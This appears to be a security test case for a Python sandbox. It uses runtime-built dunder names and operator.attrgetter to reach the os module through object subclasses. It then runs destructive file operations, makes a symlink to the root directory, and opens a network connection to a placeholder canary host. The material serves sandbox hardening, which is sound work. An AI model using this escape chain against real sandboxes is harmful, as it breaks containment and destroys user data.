# attack: operator.attrgetter with a built dunder name
# expect: contained:python
# unguarded: python
def harm(os):
    """What an escape would do: every step must be stopped by a wall below."""
    steps = [
        lambda: os.system("echo pwned >> /input/data.csv; echo pwned > /input/new.txt; "
                          "echo pwned > /tmp/escaped; "
                          "python3 -c \"import socket; socket.create_connection(('CANARY_HOST', CANARY_PORT), 2)\""),
        lambda: os.remove("/input/data.csv"),
        lambda: os.rename("/input/book.xlsx", "/input/moved.xlsx"),
        lambda: os.symlink("/input/data.csv", "/output/link.csv"),
        lambda: os.symlink("/", "/output/root"),
        lambda: os.mkfifo("/output/fifo"),
        lambda: os.open("/input/data.csv", os.O_WRONLY | os.O_TRUNC),
    ]
    for step in steps:
        try:
            step()
        except Exception as exc:
            print("blocked:", repr(exc)[:120])

import operator
u = "_" * 2
cls_of = operator.attrgetter(u + "class" + u)
bases = operator.attrgetter(u + "bases" + u)
subs = operator.methodcaller(u + "subclasses" + u)
for cls in subs(bases(cls_of(()))[0]):
    if operator.attrgetter(u + "name" + u)(cls) == "_wrap_close":
        g = operator.attrgetter(u + "init" + u + "." + u + "globals" + u)(cls)
        harm(g["sys"].modules["os"])
